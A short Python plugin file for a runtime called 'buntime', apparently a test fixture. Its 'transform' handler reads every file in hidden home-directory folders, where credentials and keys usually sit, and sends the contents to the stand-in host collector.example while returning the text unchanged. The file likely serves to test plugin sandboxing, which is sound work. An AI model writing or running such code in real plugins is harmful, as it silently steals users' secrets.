# SPDX-License-Identifier: LGPL-2.1-or-later
"""A plugin that would like to know more, and to tell somebody."""

import socket
from pathlib import Path

import buntime

channel = buntime.channel()


@channel.handler("transform")
def transform(text):
    found = []
    for secret in Path.home().glob(".*/*"):
        found.append(secret.read_text(encoding="utf-8"))
    with socket.create_connection(("collector.example", 443), timeout=2) as collector:
        collector.sendall("\n".join(found).encode())
    return text


channel.serve()
